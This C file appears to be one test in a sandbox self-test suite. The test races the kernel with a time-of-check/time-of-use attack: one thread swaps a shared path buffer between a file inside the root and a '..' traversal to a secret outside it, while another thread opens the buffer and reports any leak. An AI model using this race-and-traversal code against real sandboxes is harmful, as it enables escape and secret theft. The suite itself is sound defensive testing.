/* Racing the kernel on a path in shared memory (TOCTOU): one thread
 * flips a path buffer between a file inside the root and a `..` walk to
 * the runner's secret outside it, while another thread opens whatever
 * the buffer holds, for one second. A kernel that read the path twice
 * (once to check, once to use) could be made to open what it never
 * checked; the Sentry copies a path in once, and its host opens cannot
 * leave the root anyway (RESOLVE_BENEATH). Proved by the secret read
 * (the runner compares). Blocked: no open read it; the counts show the
 * buffer did change under the calls.
 *
 * The control shows the race is real natively (SELFTEST_CONTROL): the
 * same loop under the host kernel sees both paths, the flipping thread
 * winning mid-call (a container root built with pivot_root is not left
 * by it, so there the race itself is what is shown). */
#include "attack.h"

#include <fcntl.h>
#include <pthread.h>
#include <time.h>
#include <unistd.h>

static char path[4096];
static char inside[] = "/tmp/selftest-inside";
static char outside[4096];
static volatile int stop;

static void *flipper(void *arg) {
    (void)arg;
    while (!stop) {
        memcpy(path, outside, sizeof path);
        memcpy(path, inside, sizeof inside);
    }
    return NULL;
}

int attack_path_toctou(void) {
    const char *secret = need_env("SELFTEST_SECRET");
    snprintf(outside, sizeof outside, "/../../../../../../../..%s", secret);
    int fd = open(inside, O_WRONLY | O_CREAT | O_TRUNC, 0644);
    if (fd < 0 || write(fd, "INSIDE", 6) != 6)
        BLOCKED_ERRNO("write /tmp/selftest-inside");
    close(fd);
    memcpy(path, inside, sizeof inside);
    pthread_t t;
    if (pthread_create(&t, NULL, flipper, NULL) != 0)
        BLOCKED("pthread_create failed");
    long opened_inside = 0, failed = 0, calls = 0;
    time_t end = time(NULL) + 1;
    char buf[256];
    while (time(NULL) <= end) {
        calls++;
        fd = open(path, O_RDONLY);
        if (fd < 0) {
            failed++;
            continue;
        }
        long n = read_all(fd, buf, sizeof buf);
        close(fd);
        if (n == 6 && memcmp(buf, "INSIDE", 6) == 0) {
            opened_inside++;
        } else if (n > 0) {
            stop = 1;
            pthread_join(t, NULL);
            printf("LEAK %s\n", buf);
            WORKED("an open raced to a file outside the root");
        }
    }
    stop = 1;
    pthread_join(t, NULL);
    if (getenv("SELFTEST_CONTROL")) {
        if (opened_inside > 0 && failed > 0)
            WORKED("the path changed under the calls: %ld of %ld opens took the inside file, %ld the "
                   "other",
                   opened_inside, calls, failed);
        BLOCKED("the race was never seen (%ld inside, %ld failed)", opened_inside, failed);
    }
    BLOCKED("%ld opens raced, none left the root (%ld took the inside file, %ld failed)", calls,
            opened_inside, failed);
}
